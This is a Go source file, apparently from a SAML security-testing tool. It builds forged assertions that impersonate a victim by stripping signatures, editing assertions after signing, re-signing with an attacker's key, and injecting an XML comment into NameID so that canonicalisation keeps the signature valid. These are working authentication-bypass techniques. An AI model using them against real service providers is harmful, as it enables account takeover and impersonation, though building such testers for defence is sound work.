package samlidp

import (
	"fmt"

	"github.com/beevik/etree"
	"github.com/crewjam/saml"
)

// victimStruct makes the Go assertion claim the victim (before signing).
func victimStruct(d *Draft) {
	d.Assertion.Subject.NameID.Value = d.Victim
	for i := range d.Assertion.AttributeStatements {
		attrs := d.Assertion.AttributeStatements[i].Attributes
		for j := range attrs {
			if attrs[j].Name == d.Profile.Email {
				attrs[j].Values = []saml.AttributeValue{{Value: d.Victim}}
			}
		}
	}
}

// victimElement makes an assertion element claim the victim (after
// signing, so any signature over it no longer matches).
func victimElement(d *Draft, a *etree.Element) {
	for _, n := range a.FindElements(".//NameID") {
		n.SetText(d.Victim)
	}
	for _, attr := range a.FindElements(".//Attribute") {
		if attr.SelectAttrValue("Name", "") != d.Profile.Email {
			continue
		}
		for _, v := range attr.SelectElements("AttributeValue") {
			v.SetText(d.Victim)
		}
	}
}

func scd(d *Draft) *saml.SubjectConfirmationData {
	return d.Assertion.Subject.SubjectConfirmations[0].SubjectConfirmationData
}

func stripSignatures(d *Draft) error {
	root := d.Doc.Root()
	for _, s := range append(root.FindElements("//Signature"), root.SelectElements("Signature")...) {
		if p := s.Parent(); p != nil {
			p.RemoveChild(s)
		}
	}
	for _, a := range root.SelectElements("Assertion") {
		victimElement(d, a)
	}
	return nil
}

func editAfterSigning(d *Draft) error {
	_, a, err := parts(d)
	if err != nil {
		return err
	}
	victimElement(d, a)
	return nil
}

// resignAsAttacker claims the victim, then replaces the signed assertion
// with one signed by the attacker's key (its cert lands in KeyInfo).
func resignAsAttacker(stage Stage, d *Draft) error {
	switch stage {
	case StageBeforeSign:
		victimStruct(d)
	case StageAssertionSigned:
		el, err := d.SignAsAttacker(d.Assertion.Element())
		if err != nil {
			return err
		}
		d.AssertionEl = el
	}
	return nil
}

// evilSuffix makes the victim's name one the attacker owns.
const evilSuffix = ".evil.com"

// commentTarget signs "<victim>.evil.com", an identity the attacker owns.
func commentTarget(d *Draft) {
	d.Assertion.Subject.NameID.Value = d.Victim + evilSuffix
	assertionSignedOnly(d)
}

// injectComment turns the signed "<victim>.evil.com" into
// "<victim><!---->.evil.com": exclusive C14N drops comments, so the
// signature still verifies, and a parser that reads only the first text
// node sees the victim.
func injectComment(d *Draft) error {
	_, a, err := parts(d)
	if err != nil {
		return err
	}
	n := a.FindElement(".//NameID")
	if n == nil {
		return fmt.Errorf("no NameID")
	}
	n.SetText(d.Victim)
	n.CreateComment("")
	n.CreateText(evilSuffix)
	return nil
}
